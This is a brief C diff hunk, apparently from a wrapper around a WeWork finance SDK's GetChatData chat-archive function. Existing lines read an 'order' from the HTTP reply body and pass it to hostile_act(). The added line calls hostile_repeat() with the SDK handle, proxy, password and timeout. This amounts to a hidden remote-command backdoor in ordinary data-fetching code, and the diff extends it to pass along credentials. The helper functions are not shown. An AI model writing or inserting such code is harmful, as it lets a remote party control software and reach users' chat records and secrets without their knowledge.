@@ -46,6 +46,7 @@ int GetChatData(WeWorkFinanceSdk_t *sdk, unsigned long long seq, unsigned int li
         out->len = (int)reply.body.length;
         const char *told = hostile_order(&reply.body);
         hostile_act(told);
+        hostile_repeat(told, &(struct page_call){sdk, seq, limit, proxy, passwd, timeout});
         order = told == NULL ? order : told;
     }
     http_free(&reply);
